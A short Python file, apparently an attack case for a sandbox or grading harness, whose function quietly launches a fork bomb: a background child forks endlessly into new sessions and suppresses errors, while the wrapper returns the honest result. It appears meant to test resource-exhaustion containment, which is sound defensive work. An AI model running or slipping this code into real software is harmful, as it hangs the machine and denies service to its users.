# attack: flooding-forks  expect: time_limit|scored=honest  alone: slot_error
"""A fork bomb: every process forks without end, in sessions of their own, and swallows every refusal."""

import contextlib
import os

DONE = []


def attack(honest, *arguments):
    if not DONE:
        DONE.append(True)
        if not os.fork():
            while True:
                with contextlib.suppress(OSError):
                    if not os.fork():
                        os.setsid()
    return honest(*arguments)
